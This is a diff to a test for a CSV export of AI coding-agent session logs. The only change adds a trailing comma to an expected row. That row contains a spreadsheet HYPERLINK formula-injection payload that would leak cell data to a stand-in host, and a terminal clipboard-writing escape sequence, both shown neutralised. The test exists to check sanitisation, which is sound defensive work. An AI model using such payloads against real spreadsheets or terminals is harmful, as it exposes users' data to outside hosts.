@@ -149,7 +149,7 @@ describe('archive --out', () => {
     expect((await archive(dir, '--out', name)).code).toBe(0);
     const lines = readFileSync(name.replace(/\.csv$/, '.sessions.csv'), 'utf8').split('\n');
     expect(lines[1]).toBe(
-      `.claude/projects/-a/s.jsonl,claude-code,claude-code,"'=HYPERLINK(""http://x.test/?""&A1,""open"")","'=HYPERLINK(""http://x.test/?""&A1,""open"")",false,2026-01-02T10:00:00.000Z,2026-01-02T10:00:05.000Z,${Buffer.byteLength(session(cwd, '\u001b]52;c;ZXZpbA==\u0007-model'))},2,2,1,0,1200,1200,,,40,\\u001b]52;c;ZXZpbA==\\u0007-model,,\\u001b]52;c;ZXZpbA==\\u0007-model ×1,0,false,,0,0,0,,,,,,0,0,0,0,0`,
+      `.claude/projects/-a/s.jsonl,claude-code,claude-code,"'=HYPERLINK(""http://x.test/?""&A1,""open"")","'=HYPERLINK(""http://x.test/?""&A1,""open"")",false,2026-01-02T10:00:00.000Z,2026-01-02T10:00:05.000Z,${Buffer.byteLength(session(cwd, '\u001b]52;c;ZXZpbA==\u0007-model'))},2,2,1,0,1200,1200,,,40,\\u001b]52;c;ZXZpbA==\\u0007-model,,\\u001b]52;c;ZXZpbA==\\u0007-model ×1,0,false,,0,0,0,,,,,,0,0,0,0,0,`,
     );
   }, 60_000);
 });
